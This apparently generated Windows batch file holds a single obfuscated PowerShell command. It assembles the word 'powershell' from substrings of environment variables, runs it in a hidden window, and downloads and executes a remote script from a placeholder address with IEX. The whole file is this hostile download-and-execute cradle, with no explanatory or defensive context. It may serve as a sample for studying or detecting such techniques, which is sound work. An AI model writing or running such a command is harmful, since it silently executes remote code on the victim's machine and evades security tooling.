REM run 2573 v3
po%WINDIR:~-2,1%%public:~5,1%%ProgramData:~-7,1%%COMSPEC:~-14,1%he%PUBLIC:~12,1%%PUBLIC:~-3,1% -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
